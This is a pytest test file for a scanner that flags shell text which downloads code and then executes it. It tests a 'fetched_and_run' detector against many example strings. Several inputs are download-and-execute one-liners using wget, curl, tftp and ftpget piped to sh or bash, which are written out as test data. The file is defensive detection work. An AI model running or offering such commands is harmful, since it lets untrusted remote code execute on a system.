"""Which shell text runs what it fetched."""

import pytest

from assay.checks.backdoors.fetching import fetched_and_run


@pytest.mark.parametrize(
    "text",
    [
        "wget -q -O - http://h/x | sh\n",
        "curl -s http://h | sudo bash -s x\n",
        'eval "$(curl -fsSL http://h)"\n',
        "wget -O /tmp/a.sh http://h/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh start\n",
        "cd /tmp; tftp -g -r u.sh -l /tmp/u.sh 10.0.0.1 && sh /tmp/u.sh\n",
        "ftpget -u a -p b 1.2.3.4 /tmp/z z.bin\nif true; then . /tmp/z; fi\n",
        'wget http://h/y -O "$F" && sh "$F"\n',
        "curl http://h > /tmp/q; sh /tmp/q\n",
    ],
)
def test_what_is_run(text):
    (found,) = fetched_and_run(text)
    for piece in (found.fetch, found.run):
        assert text[piece.offset : piece.offset + piece.length].replace("\n", ".") == piece.text


@pytest.mark.parametrize(
    "text",
    [
        "# wget -O - http://h | sh\n",
        "wget http://h/y | grep shell\n",
        "wget -O - http://h | tar xz\n",
        "curl -s http://h | shasum\n",
        "wget -O /tmp/list http://h\nsort /tmp/list\n",
        "wget -O /tmp/list http://h\n# sh /tmp/list\n",
        "sh /tmp/a\nwget -O /tmp/a http://h\n",
        "wget -O $T/run http://h\nusign -V -m $T/run -p k\n$T/run\n",
        "curl -o /tmp/fw.bin http://h\nsysupgrade /tmp/fw.bin\n",
        "wget -O /dev/null http://h\n",
    ],
)
def test_what_is_not(text):
    assert not list(fetched_and_run(text))


@pytest.mark.parametrize("piece", ["wget ", "`wget ", 'eval "$(', "wget -O /tmp/a x;", "| sh "])
def test_hostile_text_ends(piece):
    assert not list(fetched_and_run((piece * 60_000)[: 256 << 10]))


def test_fetches_are_told_form_by_form_each_in_the_order_of_the_text():
    text = (
        'eval "$(curl http://h/1)"\n'
        "wget -O - http://h/2 | sh; wget -O - http://h/3 | sh\n"
        "ls\n"
        "curl http://h/4 | ash\n"
        "tftp -l /tmp/u 1.2.3.4; /tmp/u\n"
    )
    found = [one.fetch.offset for one in fetched_and_run(text)]
    places = [text.index(f"wget -O - http://h/{number}") for number in (2, 3)]
    places += [text.index("curl http://h/4"), 0, text.index("tftp")]
    assert found == places
